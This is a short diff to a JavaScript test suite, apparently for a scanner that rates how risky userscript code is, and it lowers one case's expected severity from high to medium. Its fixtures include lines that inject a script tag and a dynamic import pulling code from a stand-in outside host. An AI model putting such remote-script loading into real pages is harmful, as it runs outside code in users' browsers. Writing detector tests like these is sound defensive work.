@@ -48,7 +48,7 @@ describe("remote-code", () => {
 		],
 		[
 			"a server of somebody over http",
-			["high 1"],
+			["medium 1"],
 			`var s=document.createElement("script");s.src="http://c.stranger.test/x.js";document.body.appendChild(s)`,
 		],
 		["an import", ["high 5"], userscript(["match https://shop.example/*"], `import("https://c.stranger.test/x.mjs")`)],
